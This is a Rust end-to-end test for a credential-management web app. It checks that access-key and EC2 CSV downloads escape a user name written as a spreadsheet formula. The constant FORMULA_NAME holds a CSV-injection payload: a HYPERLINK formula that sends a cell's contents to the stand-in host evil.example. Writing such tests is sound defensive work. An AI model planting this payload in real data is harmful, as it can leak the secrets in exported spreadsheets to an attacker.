//! What a user downloads opens safely in a spreadsheet and imports into the AWS CLI: a user whose
//! name is a spreadsheet formula downloads their access-key and EC2 CSVs, and every cell is read.

use keyrack_e2e::{
    click, env, http, keystone, open, save_secret_from_dialog, script, sign_in_with_password,
    wait_route, wait_text, with_browser, TestResult,
};
use serde_json::Value;

/// A name that a spreadsheet would run; its commas and quotes test the quoting as well.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?k=\"&D2,\"open\")";

/// From now on keeps the text of every file the page offers for download.
async fn capture_downloads(c: &fantoccini::Client) -> TestResult {
    script(
        c,
        "window.__downloads = [];
         const make = URL.createObjectURL;
         URL.createObjectURL = blob => { blob.text().then(text => window.__downloads.push(text)); return make.call(URL, blob); };
         return 0;",
    )
    .await?;
    Ok(())
}

async fn last_download(
    c: &fantoccini::Client,
) -> Result<String, Box<dyn std::error::Error + Send + Sync>> {
    for _ in 0..50 {
        let files = script(c, "return window.__downloads;").await?;
        if let Some(text) = files
            .as_array()
            .and_then(|f| f.last())
            .and_then(Value::as_str)
        {
            return Ok(text.to_string());
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    Err("nothing was downloaded".into())
}

/// The cells of an RFC 4180 line (quoted fields, doubled quotes).
fn cells(line: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, line.chars().peekable());
    while let Some(ch) = chars.next() {
        match (ch, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cell)),
            _ => cell.push(ch),
        }
    }
    cells.push(cell);
    cells
}

#[tokio::test]
async fn a_user_named_like_a_formula_downloads_csvs_that_no_spreadsheet_runs() -> TestResult {
    let password = "formula-user-password";
    let admin = keystone::admin_token()?;
    // Made once per Keystone (a fresh one per run of the suite).
    if keystone::create_member(FORMULA_NAME, password).is_err() {
        let found = http()
            .get(format!("{}/users", env().identity))
            .query("name", FORMULA_NAME)
            .header("X-Auth-Token", &admin)
            .call()?
            .body_mut()
            .read_json::<Value>()?;
        found["users"][0]["id"].as_str().ok_or("no such user")?;
    }
    with_browser!(|c| {
        open(&c, "/access-keys").await?;
        sign_in_with_password(&c, FORMULA_NAME, password, Some("demo")).await?;
        wait_route(&c, "/access-keys").await?;
        wait_text(&c, "[data-test=key-limit]", "keys in use").await?;
        capture_downloads(&c).await?;
        keyrack_e2e::open_create_form(&c).await?;
        click(&c, "[data-test=create-key]").await?;
        let (access, secret) = save_secret_from_dialog(&c).await?;
        let file = last_download(&c).await?;
        let lines: Vec<&str> = file.lines().collect();
        assert_eq!(
            cells(lines[0]),
            ["User Name", "Access Key ID", "Secret Access Key"]
        );
        assert_eq!(
            cells(lines[1]),
            [format!("'{FORMULA_NAME}"), access, secret]
        );

        open(&c, "/ec2").await?;
        keyrack_e2e::open_create_form(&c).await?;
        wait_text(&c, "select[name=project]", "demo").await?;
        capture_downloads(&c).await?;
        keyrack_e2e::open_create_form(&c).await?;
        click(&c, "[data-test=create-ec2]").await?;
        let (access, secret) = save_secret_from_dialog(&c).await?;
        let file = last_download(&c).await?;
        let lines: Vec<&str> = file.lines().collect();
        assert_eq!(
            cells(lines[0]),
            ["User Name", "Project", "Access Key ID", "Secret Access Key"]
        );
        assert_eq!(
            cells(lines[1]),
            [
                format!("'{FORMULA_NAME}"),
                "demo".to_string(),
                access,
                secret
            ]
        );
        Ok(())
    })
}
